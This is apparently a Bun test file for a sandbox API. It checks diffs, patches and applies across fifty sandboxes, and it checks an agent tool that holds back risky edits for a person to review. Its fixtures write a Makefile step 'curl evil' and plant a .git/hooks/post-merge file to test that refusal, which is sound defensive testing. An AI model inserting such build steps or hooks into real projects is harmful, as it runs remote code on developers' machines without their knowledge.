/** The TypeScript API on what programs have changed, fifty sandboxes at once, and the tool for an agent. */
import { describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { runProgram } from "./api/programs.ts";
import { ownedDir } from "./support/caller.ts";
import { makeRootfs } from "./support/rootfs.ts";
import { subjects } from "./support/runtime.ts";
import { Sandbox } from "./support/sandbox.ts";

for (const subject of subjects(["brun"])) {
  const { caller } = subject;

  describe(subject.label, () => {
    test("diff, patch, apply, discard, and fifty sandboxes at once", async () => {
      await using box = new Sandbox(subject);
      const dir = ownedDir(caller, `${box.dir}/project`);
      const root = `${box.dir}/root`;
      makeRootfs(root, caller);
      ownedDir(caller, `${root}/srv`);
      const { code, stdout, stderr } = await runProgram("bun", caller, box, "test/api/changes.ts", [
        dir,
        root,
      ]);
      expect([code, stderr]).toEqual([0, ""]);
      expect(JSON.parse(stdout)).toEqual({
        diff: [
          ["changed", "a", ["content"], "file"],
          ["changed", "b", ["content"], "file"],
          ["added", "d", [], "directory"],
          ["added", "d/-e", [], "file"],
          ["deleted", "gone", [], ""],
          ["added", "x", [], "file"],
        ],
        untouched: "one\n",
        patch: ["+two", ""],
        applied: [
          ["a", ""],
          ["b", true],
          ["d", ""],
          ["d/-e", ""],
          ["gone", ""],
        ],
        forced: [null],
        now: ["one\ntwo\n", "one\ntwo\n", "new\n"],
        left: ["x"],
        discarded: "ERR_NOT_FOUND",
        withoutKeep: "ERR_USAGE",
        noName: "ERR_USAGE",
        nulInPath: "ERR_USAGE",
        aborted: "ABORT_ERR",
        ids: [0, ""],
        idsDiff: ["changed /srv", "added /srv/in", "added /srv/in/f"],
        idsDiscarded: "ERR_NOT_FOUND",
        fifty: true,
      });
      expect(readdirSync(dir).sort()).toEqual(["a", "b", "d"]);
    }, 120_000);

    test("examples/api/agent-tool.ts: what is harmless is taken over, the rest is told", async () => {
      await using box = new Sandbox(subject);
      const dir = ownedDir(caller, `${box.dir}/project`);
      box.file("project/main.c", "int main;\n");
      box.file("project/Makefile", "all:\n");
      const requests = [
        {
          run: ["sh", "-c", "echo '// more' >>main.c; echo 'all: ; curl evil' >Makefile; cat main.c; exit 3"],
        },
        { run: ["sh", "-c", "echo '// again' >>main.c; mkdir -p .git/hooks; echo x >.git/hooks/post-merge"] },
        { run: ["sh", "-c", "mkdir new; echo x >new/a.c; echo 'all: ; curl evil' >new/Makefile"] },
        { run: ["no-such-program"] },
        { apply: true },
        { patch: true },
        { discard: true },
      ];
      const stdin = requests.map((request) => `${JSON.stringify(request)}\n`).join("");
      const { code, stdout, stderr } = await runProgram(
        "bun",
        caller,
        box,
        "examples/api/agent-tool.ts",
        [dir],
        stdin,
      );
      expect([code, stderr]).toEqual([0, ""]);
      const answers = stdout
        .trim()
        .split("\n")
        .map((line) => JSON.parse(line));
      expect(answers[0]).toEqual({
        exitCode: 3,
        stdout: "int main;\n// more\n",
        stderr: "",
        changed: ["Makefile", "main.c"],
        programs: 2,
      });
      expect(answers[1].exitCode).toBe(0);
      expect(answers[2].exitCode).toBe(0);
      expect(answers[3].error).toContain("no-such-program");
      expect(answers[4].applied).toEqual(["main.c"]);
      expect(answers[4].refused).toContain("Makefile: a person has to look at it");
      expect(answers[4].refused).toContain(".git/hooks/post-merge: a person has to look at it");
      expect(answers[4].refused).toContain("new/Makefile: a person has to look at it");
      expect(answers[4].refused).toContain("new: a person has to look at it");
      expect(answers[5].patch).toContain("+all: ; curl evil");
      expect(answers[6]).toEqual({});
      expect(readFileSync(`${dir}/main.c`, "utf8")).toBe("int main;\n// more\n// again\n");
      expect(readFileSync(`${dir}/Makefile`, "utf8")).toBe("all:\n");
      expect(existsSync(`${dir}/.git`)).toBe(false);
      expect(existsSync(`${dir}/new`)).toBe(false);
    }, 60_000);
  });
}
